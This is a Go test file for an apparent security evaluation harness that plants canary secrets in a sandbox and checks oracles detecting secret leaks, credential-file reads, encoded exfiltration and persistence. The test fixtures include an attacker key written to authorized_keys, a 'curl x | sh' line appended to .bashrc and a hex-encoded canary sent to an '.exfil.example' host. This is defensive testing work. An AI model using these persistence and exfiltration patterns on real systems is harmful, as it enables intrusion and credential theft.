package eval

import (
	"encoding/base64"
	"encoding/hex"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newSandbox(t *testing.T) *Sandbox {
	t.Helper()
	sb, err := NewSandbox(t.TempDir(), t.Name())
	require.NoError(t, err)
	t.Cleanup(func() { sb.Close() })
	return sb
}

func judge(t *testing.T, o Oracle, sb *Sandbox, ev *Evidence) bool {
	t.Helper()
	fired, detail, err := Judge(o, sb, ev)
	require.NoError(t, err)
	require.NotEmpty(t, detail)
	return fired
}

// Every oracle kind is shown detecting a positive and a negative, on
// synthetic evidence in a real sandbox.
func TestOracleKinds(t *testing.T) {
	sb := newSandbox(t)
	ssh := sb.Canaries[CanarySSH]

	t.Run(KindCanaryInResponse, func(t *testing.T) {
		o := Oracle{Kind: KindCanaryInResponse, Canary: CanarySSH}
		assert.True(t, judge(t, o, sb, &Evidence{Responses: []string{"ok", "key: " + ssh}}))
		assert.False(t, judge(t, o, sb, &Evidence{Responses: []string{"ok", "CANARY-SSH-0000"}}))
		assert.False(t, judge(t, o, sb, &Evidence{Responses: []string{sb.Canaries[CanaryAWS]}}), "another canary is not this one")
	})
	t.Run(KindCanaryAtSink, func(t *testing.T) {
		tcp := Oracle{Kind: KindCanaryAtSink, Canary: CanaryAWS, Sink: "tcp"}
		aws := sb.Canaries[CanaryAWS]
		assert.True(t, judge(t, tcp, sb, &Evidence{TCP: []byte("x" + aws)}))
		assert.False(t, judge(t, tcp, sb, &Evidence{UDP: []byte(aws)}), "tcp oracle ignores the udp sink")
		assert.True(t, judge(t, Oracle{Kind: KindCanaryAtSink, Canary: CanaryAWS, Sink: "any"}, sb, &Evidence{UDP: []byte(aws)}))
		anyBytes := Oracle{Kind: KindCanaryAtSink, Sink: "udp"}
		assert.True(t, judge(t, anyBytes, sb, &Evidence{UDP: []byte{0}}))
		assert.False(t, judge(t, anyBytes, sb, &Evidence{}))
	})
	t.Run(KindFileWritten, func(t *testing.T) {
		p := filepath.Join(sb.Home, ".ssh", "authorized_keys")
		created := Oracle{Kind: KindFileWritten, Path: "{{HOME}}/.ssh/authorized_keys"}
		ev := &Evidence{Before: map[string]string{p: snapshot(p)}}
		assert.False(t, judge(t, created, sb, ev), "absent file")
		require.NoError(t, os.WriteFile(p, []byte("ssh-ed25519 AAAA attacker"), 0o600))
		assert.True(t, judge(t, created, sb, ev), "created file")

		bashrc := filepath.Join(sb.Home, ".bashrc")
		changed := Oracle{Kind: KindFileWritten, Path: "{{HOME}}/.bashrc"}
		ev = &Evidence{Before: map[string]string{bashrc: snapshot(bashrc)}}
		assert.False(t, judge(t, changed, sb, ev), "untouched .bashrc")
		f, err := os.OpenFile(bashrc, os.O_APPEND|os.O_WRONLY, 0)
		require.NoError(t, err)
		f.WriteString("curl x | sh\n")
		f.Close()
		assert.True(t, judge(t, changed, sb, ev), "appended .bashrc")

		contains := Oracle{Kind: KindFileWritten, Path: "{{TMP}}/stage", Contains: StringList{"{{CANARY_SSH}}"}}
		assert.False(t, judge(t, contains, sb, &Evidence{}))
		require.NoError(t, os.WriteFile(filepath.Join(sb.TMP, "stage"), []byte("harmless"), 0o600))
		assert.False(t, judge(t, contains, sb, &Evidence{}), "file without the canary")
		require.NoError(t, os.WriteFile(filepath.Join(sb.TMP, "stage"), []byte(ssh), 0o600))
		assert.True(t, judge(t, contains, sb, &Evidence{}))
	})
	t.Run(KindFileRead, func(t *testing.T) {
		p := sb.CanaryFiles[CanaryAWS]
		o := Oracle{Kind: KindFileRead, Path: "{{HOME}}/.aws/credentials"}
		assert.True(t, judge(t, o, sb, &Evidence{Opened: map[string]bool{p: true}}))
		assert.False(t, judge(t, o, sb, &Evidence{Opened: map[string]bool{sb.CanaryFiles[CanarySSH]: true}}))
	})
	t.Run(KindMarker, func(t *testing.T) {
		o := Oracle{Kind: KindMarker, Name: "sh-ran"}
		assert.False(t, judge(t, o, sb, &Evidence{}))
		require.NoError(t, os.WriteFile(filepath.Join(sb.MarkerDir, "sh-ran"), nil, 0o644))
		assert.True(t, judge(t, o, sb, &Evidence{}))
	})
	t.Run(KindExpect, func(t *testing.T) {
		o := Oracle{Kind: KindExpect, NotError: true, Contains: StringList{"Oslo:"},
			File: &FileExpect{Path: "{{WS}}/out.txt", Contains: "done"}}
		ok := &Evidence{Responses: []string{"Oslo: rain"}, CallErrors: []bool{false}}
		assert.False(t, judge(t, o, sb, ok), "file missing")
		require.NoError(t, os.WriteFile(filepath.Join(sb.WS, "out.txt"), []byte("done"), 0o644))
		assert.True(t, judge(t, o, sb, ok))
		assert.False(t, judge(t, o, sb, &Evidence{Responses: []string{"Oslo: rain"}, CallErrors: []bool{true}}), "call failed")
		assert.False(t, judge(t, o, sb, &Evidence{Responses: []string{"Bergen: rain"}, CallErrors: []bool{false}}), "wrong result")
	})
}

// The oracle kinds' table is whole: every kind judges and checks, reads
// only fields Oracle has, and fieldsSet knows every field of Oracle (so
// Validate refuses a stray one whichever field it is).
func TestOracleKindTable(t *testing.T) {
	fields := map[string]bool{}
	for _, f := range (Oracle{}).fieldsSet() {
		fields[f.name] = true
	}
	typ := reflect.TypeFor[Oracle]()
	for i := range typ.NumField() {
		name, _, _ := strings.Cut(typ.Field(i).Tag.Get("json"), ",")
		if name != "kind" {
			assert.True(t, fields[name], "Oracle.%s (%s) is missing from fieldsSet", typ.Field(i).Name, name)
		}
	}
	assert.Len(t, fields, typ.NumField()-1, "fieldsSet names a field Oracle does not have")
	for _, k := range oracleKinds {
		assert.NotNil(t, k.judge, k.name)
		assert.NotNil(t, k.check, k.name)
		for _, r := range k.reads {
			assert.True(t, fields[r], "kind %s reads %q, not a field of Oracle", k.name, r)
		}
	}
}

func TestCanaryEncodings(t *testing.T) {
	tok := "CANARY-SSH-0123456789abcdef0123456789abcdef"
	for pad := range 3 {
		stream := strings.Repeat("k", pad) + "-----BEGIN-----\n" + tok + "\n-----END-----\n"
		for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding} {
			how, ok := containsCanary([]byte("data="+enc.EncodeToString([]byte(stream))), tok)
			assert.True(t, ok, "pad %d", pad)
			assert.Equal(t, "base64", how)
		}
	}
	how, ok := containsCanary([]byte("q="+strings.ToUpper(hex.EncodeToString([]byte(tok)))+".exfil.example"), tok)
	assert.True(t, ok)
	assert.Equal(t, "hex", how)
	_, ok = containsCanary([]byte(base64.StdEncoding.EncodeToString([]byte("CANARY-SSH-ffff"))), tok)
	assert.False(t, ok)
}

func TestReadWatch(t *testing.T) {
	dir := t.TempDir()
	read, unread := filepath.Join(dir, "read"), filepath.Join(dir, "unread")
	link := filepath.Join(dir, "link")
	for _, p := range []string{read, unread} {
		require.NoError(t, os.WriteFile(p, []byte("secret"), 0o600))
	}
	require.NoError(t, os.Symlink(read, link))
	w, err := NewReadWatch([]string{read, unread})
	require.NoError(t, err)
	// Read through the symlink: the watch is on the inode.
	_, err = os.ReadFile(link)
	require.NoError(t, err)
	_, err = os.Stat(unread) // stat is not a read
	require.NoError(t, err)
	got := w.Stop()
	assert.True(t, got[read])
	assert.False(t, got[unread])
}

func TestSinksRecord(t *testing.T) {
	sb := newSandbox(t)
	c, err := net.Dial("tcp", sb.TCP.Addr())
	require.NoError(t, err)
	c.Write([]byte("hello tcp"))
	c.Close()
	u, err := net.Dial("udp", sb.UDP.Addr())
	require.NoError(t, err)
	u.Write([]byte("hello udp"))
	u.Close()
	// An HTTP POST gets an answer, so an exfiltrating fetch completes.
	resp, err := http.Post("http://"+sb.TCP.Addr()+"/x", "text/plain", strings.NewReader("posted body"))
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusNoContent, resp.StatusCode)
	require.Eventually(t, func() bool {
		return strings.Contains(string(sb.TCP.Received()), "hello tcp") &&
			strings.Contains(string(sb.TCP.Received()), "posted body") &&
			string(sb.UDP.Received()) == "hello udp"
	}, 5*time.Second, 10*time.Millisecond)
	assert.False(t, sb.LastActivity().IsZero())

	// The weather API answers on 127.0.0.2, deterministically.
	assert.True(t, strings.HasPrefix(sb.Weather.URL(), "http://127.0.0.2:"))
	resp, err = http.Get(sb.Weather.URL() + "/weather?city=Oslo")
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusOK, resp.StatusCode)
}

func TestSandboxCanariesAreFreshAndPlanted(t *testing.T) {
	a, b := newSandbox(t), newSandbox(t)
	for _, name := range CanaryNames() {
		assert.NotEqual(t, a.Canaries[name], b.Canaries[name], name)
	}
	for name, p := range a.CanaryFiles {
		data, err := os.ReadFile(p)
		require.NoError(t, err)
		assert.Contains(t, string(data), a.Canaries[name], p)
	}
	outside, err := os.ReadFile(filepath.Join(a.WS, "..", ".env"))
	require.NoError(t, err)
	assert.Contains(t, string(outside), a.Canaries[CanaryDotenv])
	assert.Contains(t, a.Env(), "API_TOKEN="+a.Canaries[CanaryEnv])
	for _, kv := range a.Env() {
		assert.False(t, strings.HasPrefix(kv, "GOPATH="), "the harness's own environment must not leak into the server's")
	}
	got, err := a.Expand("{{WS}}/x {{CANARY_SSH}}")
	require.NoError(t, err)
	assert.Equal(t, a.WS+"/x "+a.Canaries[CanarySSH], got)
	_, err = a.Expand("{{NOPE}}")
	assert.Error(t, err)
	args, err := a.ExpandJSON([]byte(`{"p": "{{HOME}}/.env", "n": [1, "{{TMP}}"]}`))
	require.NoError(t, err)
	assert.Equal(t, a.Home+"/.env", args["p"])
	assert.Equal(t, a.TMP, args["n"].([]any)[1])
}
